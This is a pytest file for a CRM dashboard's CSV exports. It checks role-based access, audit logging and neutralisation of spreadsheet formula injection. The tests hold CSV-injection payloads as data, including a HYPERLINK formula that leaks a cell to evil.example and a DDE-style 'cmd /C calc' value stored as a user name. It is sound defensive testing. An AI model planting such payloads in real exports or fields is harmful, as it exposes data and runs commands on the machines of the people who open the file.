"""CSV exports: who may take them, what they contain, formula cells neutralised, and every export in the
audit log."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa

from crm.audit.models import AuditEvent
from crm.dashboard.exports import neutralise, to_csv
from crm.extensions import db
from crm.outreach.models import Position
from tests.dashboard.conftest import DEMO_URL, demo_record


def read_csv(response) -> list[list[str]]:
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def exports_logged() -> list[AuditEvent]:
    return db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action.like("export.%")).order_by(AuditEvent.id)
    ).all()


@pytest.mark.parametrize(
    "value,expected",
    [
        ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Lima Group = 14 governments", "Lima Group = 14 governments"),
        ("", ""),
        (None, ""),
        (3, "3"),
    ],
)
def test_formula_cells_are_neutralised(value, expected):
    assert neutralise(value) == expected


def test_to_csv_neutralises_every_cell_including_the_header():
    rows = list(csv.reader(io.StringIO(to_csv(["=A"], [["x", "@y"]])[1:])))
    assert rows == [["'=A"], ["x", "'@y"]]


def test_matrix_export(client, signed_in, demo):
    user = signed_in("manager")
    response = client.get(DEMO_URL + "/matrix.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "justice-for-venezuela-2018-matrix-" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    header, *body = read_csv(response)
    assert header[:6] == ["Country", "ISO code", "Rome Statute", "Region", "Stage", "Response"]
    assert header[6:10] == [
        "1. Repudiate the election",
        "1. Repudiate the election: since",
        "1. Repudiate the election: evidence",
        "1. Repudiate the election: source",
    ]
    assert len(body) == 13
    by_code = {row[1]: dict(zip(header, row, strict=True)) for row in body}
    argentina = by_code["ARG"]
    assert (argentina["Stage"], argentina["Response"], argentina["Region"]) == ("Committed", "Acted", "Americas")
    assert argentina["3. ICC referral"] == "Acted" and argentina["3. ICC referral: since"] == "2018-09-26"
    assert argentina["2. Refugee solidarity"] == ""
    assert by_code["CRI"]["3. ICC referral"] == "Supportive"
    assert by_code["FRA"]["3. ICC referral: source"].startswith("https://www.elysee.fr/")
    assert by_code["DEU"]["Response"] == "No answer"
    germany = demo_record(demo, "DEU")
    assert by_code["DEU"]["Outreach record"] == f"http://localhost/outreach/{germany.id}#positions"
    [event] = exports_logged()
    assert (event.action, event.actor_id, event.entity_type, event.entity_id) == (
        "export.matrix",
        user.id,
        "campaign",
        str(demo.id),
    )
    assert event.after == {"rows": 13, "filters": {}, "format": "csv"}


def test_matrix_export_follows_the_filters(client, signed_in, demo):
    signed_in("admin")
    header, *body = read_csv(client.get(DEMO_URL + "/matrix.csv?region=150&status=state_party"))
    assert sorted(row[1] for row in body) == ["CHE", "DEU", "ESP", "FRA", "GBR", "SWE"]
    [event] = exports_logged()
    assert event.after["rows"] == 6 and event.after["filters"] == {"status": "state_party", "region": "150"}


def test_outreach_export(client, signed_in, demo):
    signed_in("manager")
    response = client.get(DEMO_URL + "/outreach.csv")
    assert "justice-for-venezuela-2018-outreach-" in response.headers["Content-Disposition"]
    header, *body = read_csv(response)
    assert header[:8] == [
        "Country",
        "ISO code",
        "Stage",
        "Priority",
        "Assigned to",
        "Coordinator",
        "Next follow-up",
        "Response",
    ]
    by_code = {row[1]: dict(zip(header, row, strict=True)) for row in body}
    assert len(by_code) == 13
    sweden = by_code["SWE"]
    assert (sweden["Stage"], sweden["Priority"], sweden["Assigned to"], sweden["Coordinator"]) == (
        "Not started",
        "3",
        "",
        "Chris Sample (demo)",
    )
    assert by_code["GBR"]["Assigned to"] == "Sam Placeholder (demo)"
    assert by_code["FRA"]["3. ICC referral"] == "Supportive"
    [event] = exports_logged()
    assert event.action == "export.outreach" and event.after["rows"] == 13


def test_exported_evidence_and_names_cannot_run_as_formulas(client, signed_in, make_user, demo):
    signed_in("manager")
    spain = demo_record(demo, "ESP")
    spain.assignee = make_user("volunteer", name="@SUM(1+1)*cmd|' /C calc'!A0")
    germany_position = db.session.scalar(sa.select(Position).where(Position.outreach_id == demo_record(demo, "DEU").id))
    db.session.add(
        Position(
            campaign_id=demo.id,
            outreach_id=spain.id,
            demand_id=germany_position.demand_id,
            stance="opposed",
            stated_on=germany_position.stated_on,
            evidence='=HYPERLINK("http://evil.example/?leak="&A1,"Source")',
            evidence_url="-1+1",
        )
    )
    db.session.commit()
    header, *body = read_csv(client.get(DEMO_URL + "/matrix.csv"))
    spain_row = dict(zip(header, next(row for row in body if row[1] == "ESP"), strict=True))
    assert spain_row["3. ICC referral: evidence"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Source")'
    assert spain_row["3. ICC referral: source"] == "'-1+1"
    header, *body = read_csv(client.get(DEMO_URL + "/outreach.csv"))
    spain_row = dict(zip(header, next(row for row in body if row[1] == "ESP"), strict=True))
    assert spain_row["Assigned to"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for row in body:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


@pytest.mark.parametrize("role", ["coordinator", "volunteer"])
def test_exports_are_refused_and_not_logged_for_other_roles(client, signed_in, demo, role):
    signed_in(role)
    for kind in ("matrix", "outreach"):
        assert client.get(f"{DEMO_URL}/{kind}.csv").status_code == 404
    assert exports_logged() == []


def test_the_audit_log_keeps_each_export(client, signed_in, demo):
    signed_in("admin")
    for _ in range(2):
        client.get(DEMO_URL + "/outreach.csv")
    client.get(DEMO_URL + "/matrix.csv?region=019")
    assert [(e.action, e.after["rows"]) for e in exports_logged()] == [
        ("export.outreach", 13),
        ("export.outreach", 13),
        ("export.matrix", 7),
    ]
